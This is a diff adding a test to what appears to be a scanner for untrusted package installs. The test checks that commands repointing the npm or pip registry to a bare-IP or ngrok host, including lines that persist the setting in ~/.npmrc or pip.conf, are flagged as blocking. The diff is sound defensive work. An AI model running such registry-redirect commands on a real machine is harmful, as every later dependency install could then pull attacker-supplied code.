@@ -40,4 +40,24 @@ describe('installs from an address', () => {
       expect(f?.evidence, body).toContain(host);
     }
   });
+
+  it('judges a package index set for every later install as an address installed from', () => {
+    for (const body of [
+      'npm config set registry http://198.51.100.7:4873/ --location=user',
+      "echo 'registry=https://abc.ngrok.io/' >> ~/.npmrc",
+      "printf '[global]\\nindex-url = http://203.0.113.9/simple\\n' > ~/.config/pip/pip.conf",
+      'pip install --extra-index-url http://203.0.113.9/simple helper',
+    ]) expect(report(body).findings.filter((f) => f.severity === 'blocking').map((f) => f.rule), body).toContain('install-untrusted');
+    // A company mirror stays an advisory naming its host; reading the setting is nothing.
+    for (const [body, host] of [
+      ['pip config set global.index-url https://pypi.corp.example.com/simple', 'pypi.corp.example.com'],
+      ['npm config set registry https://npm.corp.example.com/', 'npm.corp.example.com'],
+    ] as const) {
+      const r = report(body);
+      expect(r.findings.filter((f) => f.severity === 'blocking'), body).toEqual([]);
+      expect(r.findings.find((f) => f.rule === 'install-from-url')?.evidence, body).toContain(host);
+    }
+    expect(report('npm config get registry').findings).toEqual([]);
+  });
 });
+
